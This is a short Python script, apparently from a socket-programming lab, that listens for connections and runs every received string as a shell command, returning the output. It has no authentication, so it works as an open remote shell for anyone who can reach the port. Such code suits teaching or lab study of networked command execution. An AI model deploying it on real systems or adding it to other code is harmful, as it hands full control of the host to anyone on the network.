import threading
from lab import listening, popen


def serve(conn):
    while True:
        cmd = conn.recv(1024)
        if not cmd:
            break
        out, err = popen(cmd.decode('utf-8'))
        conn.sendall((out + err).encode('utf-8') or b'(no output)\n')
    conn.close()


phone = listening()
while True:
    conn, addr = phone.accept()
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
